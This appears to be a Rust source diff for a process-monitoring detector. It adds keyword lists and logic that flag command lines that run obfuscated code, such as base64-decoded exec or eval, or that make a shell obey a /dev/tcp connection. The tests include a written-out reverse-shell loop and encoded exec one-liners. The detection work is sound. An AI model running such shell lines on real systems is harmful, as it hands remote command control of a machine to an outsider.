@@ -29,6 +29,39 @@ const RUNS: &[&str] = &[
     "exec(",
     "pty.spawn",
 ];
+/// What makes code readable again that was written so that nobody reads it.
+const UNHIDES: &[&str] = &[
+    "b64decode",
+    "base64_decode",
+    "decode_base64",
+    "fromhex",
+    "zlib",
+    "marshal",
+    "codecs.decode",
+    "gzinflate",
+    "str_rot13",
+    "atob(",
+    "'base64'",
+    "\"base64\"",
+    "unpack(",
+];
+/// What runs code.
+const EVALUATES: &[&str] = &["exec(", "eval(", "eval ", "assert("];
+/// How a shell names a connection.
+const CONNECTIONS: &[&str] = &["/dev/tcp/", "/dev/udp/"];
+/// How a shell runs what it reads.
+const OBEYS: &[&str] = &[
+    "while read",
+    "while ifs",
+    "eval ",
+    "|sh",
+    "| sh",
+    "|bash",
+    "| bash",
+    "sh -i",
+    "sh <&",
+    "sh 0<&",
+];
 /// Behind which code stands.
 const CODE: &[&str] = &["-c", "-e", "-E", "-r", "-ne", "-le", "--eval", "--execute"];
 /// Behind which a command of netcat stands.
@@ -36,8 +69,17 @@ const COMMAND: &[&str] = &["--exec", "--sh-exec", "--lua-exec"];
 /// The most of a command line that is looked at.
 const LONGEST: usize = 8192;
 
+/// What a command line says.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) enum Told {
+    /// It runs commands for whoever is at the other end.
+    Commands(String),
+    /// It runs code that was written so that nobody reads it.
+    HiddenCode(String),
+}
+
 /// Returns what the command line of `process` says it runs for whoever is at the other end, when it does.
-pub(super) fn runs_commands(process: &Process) -> Option<String> {
+pub(super) fn runs_commands(process: &Process) -> Option<Told> {
     let arguments = process.cmdline.known()?;
     let base = base_name(&process.name);
     let mut rest = arguments.get(1..)?;
@@ -48,15 +90,13 @@ pub(super) fn runs_commands(process: &Process) -> Option<String> {
         } else if !is_netcat(arguments.first()) {
             return None;
         }
-        return connects_shell(rest);
+        return connects_shell(rest).map(Told::Commands);
     }
     match ProgramKind::of(&process.name) {
-        ProgramKind::Connector => connects_shell(rest),
+        ProgramKind::Connector => connects_shell(rest).map(Told::Commands),
         ProgramKind::Interpreter => one_liner(base, rest),
-        ProgramKind::Shell
-        | ProgramKind::Forwarder
-        | ProgramKind::Tunnel
-        | ProgramKind::Ordinary => None,
+        ProgramKind::Shell => obeys_connection(rest).map(Told::Commands),
+        ProgramKind::Forwarder | ProgramKind::Tunnel | ProgramKind::Ordinary => None,
     }
 }
 
@@ -104,26 +144,49 @@ fn names_shell(command: &str, words: usize) -> bool {
     })
 }
 
-/// Code on the command line that opens a connection and runs commands.
-fn one_liner(base: &str, arguments: &[Text]) -> Option<String> {
+/// Code on the command line of an interpreter that opens a connection and runs commands, or that hides what it does.
+fn one_liner(base: &str, arguments: &[Text]) -> Option<Told> {
     let is_awk = base.ends_with("awk");
-    if !is_awk
-        && !arguments
-            .iter()
-            .any(|argument| CODE.contains(&argument.as_str()))
-    {
+    if !is_awk && !has_code(arguments) {
         return None;
     }
+    let (code, looked_at) = code(arguments)?;
+    let has = |list: &[&str]| list.iter().any(|word| looked_at.contains(word));
+    // Awk reads a connection and a command by the same words: it takes both to be a shell.
+    let runs = has(RUNS) || is_awk && looked_at.matches("|& getline").count() > 1;
+    if has(OPENS) && runs {
+        Some(Told::Commands(code))
+    } else if has(EVALUATES) && has(UNHIDES) {
+        Some(Told::HiddenCode(code))
+    } else {
+        None
+    }
+}
+
+/// Code on the command line of a shell that runs what a connection says.
+fn obeys_connection(arguments: &[Text]) -> Option<String> {
+    if !has_code(arguments) {
+        return None;
+    }
+    let (code, looked_at) = code(arguments)?;
+    let has = |list: &[&str]| list.iter().any(|word| looked_at.contains(word));
+    (has(CONNECTIONS) && has(OBEYS)).then_some(code)
+}
+
+fn has_code(arguments: &[Text]) -> bool {
+    let mut arguments = arguments.iter();
+    arguments.any(|argument| CODE.contains(&argument.as_str()))
+}
+
+/// The arguments in a line, and as much of that as is looked at, in lower case.
+fn code(arguments: &[Text]) -> Option<(String, String)> {
     let code = arguments.join(" ");
     let mut end = code.len().min(LONGEST);
     while !code.is_char_boundary(end) {
         end -= 1;
     }
     let looked_at = code.get(..end)?.to_ascii_lowercase();
-    let has = |list: &[&str]| list.iter().any(|word| looked_at.contains(word));
-    // Awk reads a connection and a command by the same words: it takes both to be a shell.
-    let runs = has(RUNS) || is_awk && looked_at.matches("|& getline").count() > 1;
-    (has(OPENS) && runs).then_some(code)
+    Some((code, looked_at))
 }
 
 #[cfg(test)]
@@ -192,5 +255,33 @@ mod tests {
             &["python3", "/srv/socket.py", "exec()"]
         ));
         assert!(!says("bash", &["bash", "-c", "exec 3<>/dev/tcp/h/1"]));
+        let waits = "until echo >/dev/tcp/db/5432; do sleep 1; done";
+        assert!(!says("bash", &["bash", "-c", waits]));
+        let obeys = "exec 5<>/dev/tcp/h/1; cat <&5 | while read line; do $line >&5; done";
+        assert!(says("bash", &["bash", "-c", obeys]));
+    }
+
+    #[test]
+    fn code_that_hides_what_it_does_is_told() {
+        let hides = |file, code| {
+            let process = Process {
+                cmdline: Fact::Known(["x", "-c", code].map(Text::from).into()),
+                ..fixture::process(file, 7)
+            };
+            matches!(runs_commands(&process), Some(Told::HiddenCode(_)))
+        };
+        assert!(hides(
+            "python3.11",
+            "import base64; exec(base64.b64decode('aQ=='))"
+        ));
+        assert!(hides(
+            "perl",
+            "use MIME::Base64; eval decode_base64('aQ==')"
+        ));
+        assert!(!hides(
+            "python3.11",
+            "import base64; print(base64.b64decode('aQ=='))"
+        ));
+        assert!(!hides("python3.11", "exec(open('/srv/app.py').read())"));
     }
 }
